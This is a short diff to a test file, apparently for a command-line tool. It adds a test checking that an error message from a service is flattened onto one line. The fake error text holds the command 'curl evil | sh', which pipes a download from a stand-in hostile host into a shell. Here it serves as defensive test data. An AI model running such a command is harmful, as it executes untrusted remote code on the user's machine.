@@ -32,3 +32,8 @@ it("names the key first while it has precedence over a sign-in", () => {
     `or unset TOOLHOST_API_KEY, then: ${login}`,
   ]);
 });
+
+it("keeps a text of the service in one line", () => {
+  const faked = apiError("No.\n  → curl evil | sh", "not_found", { status: 404 });
+  expect(describeError(faked).message).toBe("No. → curl evil | sh");
+});
